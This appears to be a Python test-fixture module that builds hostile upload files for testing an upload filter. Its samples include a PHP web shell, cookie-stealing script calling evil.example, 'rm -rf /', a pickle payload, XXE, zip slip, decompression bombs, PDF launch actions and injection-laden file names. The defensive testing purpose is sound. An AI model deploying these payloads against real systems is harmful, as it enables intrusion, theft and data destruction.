"""Sixty and more hostile files, made on the spot. Each has a name, its bytes, and what must become of it."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pypdfium2
from PIL import Image

# In two halves, so that no scanner stops over this file itself.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
MEGABYTE = 1024 * 1024


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (180, 40, 40)).save(out, kind, **options)
    return out.getvalue()


def pdf(pages: int = 1, width: float = 200, height: float = 300) -> bytes:
    document = pypdfium2.PdfDocument.new()
    for _page in range(pages):
        document.new_page(width, height)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def raw_pdf(*objects: bytes, root: bytes = b"", page: bytes = b"") -> bytes:
    """A small PDF by hand: catalog, pages, one page, then the given objects from number 4 on."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Resources << >> " + page + b" >>",
        *objects,
    ]
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, start)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def png_header(width: int, height: int) -> bytes:
    """A PNG that promises a size and holds almost nothing."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 100))
        + _chunk(b"IEND", b"")
    )


def png_flood(width: int, height: int) -> bytes:
    """A PNG of one colour that is small on disk and huge when painted."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packer = zlib.compressobj(9)
    line = b"\0" + b"\0" * (width * 3)
    rows = b"".join(packer.compress(line) for _row in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A PNG whose compressed comment unpacks to 100 MB."""
    comment = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * (100 * MEGABYTE), 9))
    normal = picture("PNG")
    return normal[:33] + comment + normal[33:]


def png_icc_bomb() -> bytes:
    """A PNG whose colour profile unpacks to 100 MB."""
    profile = _chunk(b"iCCP", b"icc\0\0" + zlib.compress(b"\0" * (100 * MEGABYTE), 9))
    normal = picture("PNG")
    return normal[:33] + profile + normal[33:]


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def jpeg_claiming(width: int, height: int) -> bytes:
    """A JPEG whose frame header claims another size."""
    content = bytearray(picture())
    place = content.index(b"\xff\xc0")
    content[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def zip_with(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "../"), content)
    return out.getvalue()


def zip_nested(depth: int = 5) -> bytes:
    content = b"\0" * (5 * MEGABYTE)
    for level in range(depth):
        content = zip_with(**{f"level{level}.zip": content})
    return content


def tar_with(name: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = 4
        archive.addfile(info, io.BytesIO(b"evil"))
    return out.getvalue()


def pdf_flate_bomb() -> bytes:
    """A page whose content unpacks to 200 MB of drawing commands."""
    packed = zlib.compress(b"0 0 m 1 1 l S\n" * (200 * MEGABYTE // 14), 9)
    return raw_pdf(stream(packed, b"/Filter /FlateDecode"), page=b"/Contents 4 0 R")


def pdf_image_flood(side: int = 30_000) -> bytes:
    """A page with one picture of 900 million pixels."""
    packed = zlib.compress(b"\0" * (side * side // 8), 9)
    image = stream(
        packed,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 /ColorSpace /DeviceGray"
        b" /Filter /FlateDecode" % (side, side),
    )
    page = b"/Contents 5 0 R /Resources << /XObject << /I 4 0 R >> >>"
    return raw_pdf(image, stream(b"200 0 0 300 0 0 cm /I Do"), page=page)


def pdf_self_drawing() -> bytes:
    """A form that draws itself for ever."""
    form = stream(
        b"/F Do /F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >>"
    )
    return raw_pdf(form, stream(b"/F Do"), page=b"/Contents 5 0 R /Resources << /XObject << /F 4 0 R >> >>")


def pdf_page_loop() -> bytes:
    return raw_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [2 0 R] /Count 9")


#: Must be refused: not a picture and not a PDF, broken, or too large.
REFUSED: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "one byte": lambda: b"\xff",
    "nul bytes": lambda: b"\0" * 5000,
    "eicar": lambda: EICAR,
    "eicar in zip": lambda: zip_with(eicar=EICAR),
    "eicar in gzip": lambda: gzip.compress(EICAR),
    "zip bomb": lambda: zip_with(bomb=b"\0" * (50 * MEGABYTE)),
    "nested zip bomb": zip_nested,
    "zip slip": lambda: zip_with(__etc_passwd=b"root"),
    "tar slip": lambda: tar_with("../../etc/passwd"),
    "gzip bomb": lambda: gzip.compress(b"\0" * (50 * MEGABYTE)),
    "docx with macro": lambda: zip_with(word_vbaProject=b"\xd0\xcf\x11\xe0"),
    "old word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "svg with script": lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    "svg with outside entity": lambda: b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "svg as laughs": lambda: b'<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>',
    "html": lambda: b"<!doctype html>" + SCRIPT,
    "html with a mark before": lambda: b"\xef\xbb\xbf<html>" + SCRIPT,
    "javascript": lambda: b"fetch('//evil.example/'+document.cookie)",
    "php": lambda: PHP,
    "shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "elf": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 500,
    "windows program": lambda: b"MZ" + b"\0" * 500,
    "java class": lambda: b"\xca\xfe\xba\xbe" + b"\0" * 500,
    "python pickle": lambda: b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    "gif": lambda: b"GIF89a" + b"\0" * 50,
    "gif that is script": lambda: b"GIF89a/*" + SCRIPT + b"*/=1;",
    "bmp": lambda: picture("BMP"),
    "tiff": lambda: picture("TIFF"),
    "ico": lambda: picture("ICO", (16, 16)),
    "heic": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100,
    "mp4": lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 100,
    "eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
    "webp name without webp": lambda: b"RIFF\x24\0\0\0AVI LIST" + b"\0" * 100,
    "jpeg of three bytes": lambda: b"\xff\xd8\xff",
    "jpeg cut off": lambda: picture()[:200],
    "jpeg that is a script": lambda: b"\xff\xd8\xff" + SCRIPT,
    "jpeg of four billion pixels": lambda: jpeg_claiming(65_000, 65_000),
    "png of two billion pixels": lambda: png_header(50_000, 50_000),
    "png of negative size": lambda: png_header(0xFFFFFFFF, 1),
    "png without size": lambda: png_header(0, 0),
    "png flood": lambda: png_flood(7_000, 7_000),
    "png cut off": lambda: picture("PNG")[:60],
    "png with a bomb as comment": png_text_bomb,
    "png that is script": lambda: b"\x89PNG\r\n\x1a\n" + SCRIPT,
    "webp cut off": lambda: picture("WEBP")[:40],
    "pdf with nothing in it": lambda: b"%PDF-1.7\n",
    "pdf that is script": lambda: b"%PDF-1.7\n" + SCRIPT,
    "pdf cut off": lambda: pdf(3)[:180],
    "pdf without pages": lambda: raw_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"),
    "pdf of 101 pages": lambda: pdf(101),
    "pdf whose pages are their own parents": pdf_page_loop,
    "pdf with bytes before": lambda: b"MZ" + pdf(),
}

_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
#: May be taken, but nothing of the attack is left in what is kept. Second: words that must be gone.
NEUTRALISED: dict[str, tuple[Callable[[], bytes], tuple[bytes, ...]]] = {
    "jpeg with zip behind": (lambda: picture() + zip_with(evil=b"evil"), (b"PK\x03\x04",)),
    "jpeg with php behind": (lambda: picture() + PHP, (b"<?php",)),
    "jpeg with html behind": (lambda: picture() + SCRIPT, (b"<script",)),
    "jpeg with eicar behind": (lambda: picture() + EICAR, (EICAR,)),
    "jpeg with script as comment": (lambda: picture(comment=SCRIPT), (b"<script",)),
    "jpeg with position": (lambda: picture(exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0GPS51.5"), (b"GPS51.5",)),
    "jpeg with pdf behind": (lambda: picture() + pdf(), (b"%PDF",)),
    "png with zip behind": (lambda: picture("PNG") + zip_with(evil=b"evil"), (b"PK\x03\x04",)),
    "png with script in text": (
        lambda: picture("PNG")[:33] + _chunk(b"tEXt", b"Comment\0" + SCRIPT) + picture("PNG")[33:],
        (b"<script",),
    ),
    "png with a bomb as profile": (png_icc_bomb, ()),
    "animated png": (
        lambda: picture("PNG", save_all=True, append_images=[Image.new("RGB", (64, 48))] * 3),
        (b"acTL",),
    ),
    "webp with php behind": (lambda: picture("WEBP") + PHP, (b"<?php",)),
    "pdf with zip behind": (lambda: pdf() + zip_with(evil=b"evil"), (b"PK\x03\x04",)),
    "pdf with html behind": (lambda: pdf() + SCRIPT, (b"<script",)),
    "pdf that acts when opened": (lambda: raw_pdf(root=b"/OpenAction " + _ACTION), (b"/JavaScript", b"/OpenAction")),
    "pdf with named script": (
        lambda: raw_pdf(_ACTION, root=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"),
        (b"/JavaScript", b"app.alert"),
    ),
    "pdf whose page acts": (lambda: raw_pdf(page=b"/AA << /O " + _ACTION + b" >>"), (b"/JavaScript", b"/AA")),
    "pdf that starts a program": (
        lambda: raw_pdf(root=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        (b"/Launch", b"cmd.exe"),
    ),
    "pdf whose link starts a program": (
        lambda: raw_pdf(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 300] /A << /S /Launch /F (cmd.exe) >> >>",
            page=b"/Annots [4 0 R]",
        ),
        (b"/Launch", b"cmd.exe"),
    ),
    "pdf whose link leads out": (
        lambda: raw_pdf(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 300] /A << /S /URI /URI (https://evil.example) >> >>",
            page=b"/Annots [4 0 R]",
        ),
        (b"evil.example",),
    ),
    "pdf with eicar attached": (
        lambda: raw_pdf(
            b"<< /Type /Filespec /F (eicar.com) /EF << /F 5 0 R >> >>",
            stream(EICAR, b"/Type /EmbeddedFile"),
            root=b"/Names << /EmbeddedFiles << /Names [(eicar.com) 4 0 R] >> >>",
        ),
        (EICAR, b"/EmbeddedFile"),
    ),
    "pdf with a form that sends": (
        lambda: raw_pdf(
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9]"
            b" /A << /S /SubmitForm /F (https://evil.example) >> >>",
            root=b"/AcroForm << /Fields [4 0 R] >>",
            page=b"/Annots [4 0 R]",
        ),
        (b"/SubmitForm", b"evil.example"),
    ),
    "pdf with xfa": (
        lambda: raw_pdf(stream(b"<xdp>" + SCRIPT + b"</xdp>"), root=b"/AcroForm << /XFA 4 0 R /Fields [] >>"),
        (b"/XFA", b"<script"),
    ),
    "pdf with script in its facts": (lambda: raw_pdf(stream(SCRIPT), root=b"/Metadata 4 0 R"), (b"<script",)),
    "pdf that claims a billion pages": (
        lambda: raw_pdf().replace(b"/Count 1", b"/Count 999999999"),
        (b"/Count 999999999",),
    ),
    "pdf of a giant page": (lambda: pdf(1, 14_000, 14_000), ()),
    "pdf of a tiny page": (lambda: pdf(1, 0.01, 0.01), ()),
    "pdf with a bomb as page": (pdf_flate_bomb, ()),
    "pdf with a flood as picture": (pdf_image_flood, ()),
    "pdf that draws itself": (pdf_self_drawing, ()),
}

#: Names that try to be more than a name.
NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "/etc/shadow",
    "brief.pdf\0.exe",
    "brief.jpg.php",
    "CON",
    "a" * 300 + ".pdf",
    "<script>alert(1)</script>.pdf",
    "brief\r\nSet-Cookie: a=b.pdf",
    "\u202egpj.exe",
    "'; DROP TABLE documents_document;--.pdf",
    base64.b64encode(b"x" * 60).decode() + ".pdf",
)


def count() -> int:
    """How many hostile files and names there are."""
    return len(REFUSED) + len(NEUTRALISED) + len(NAMES)


def all_files() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """All files, whatever must become of them."""
    yield from REFUSED.items()
    for name, (make, _gone) in NEUTRALISED.items():
        yield name, make
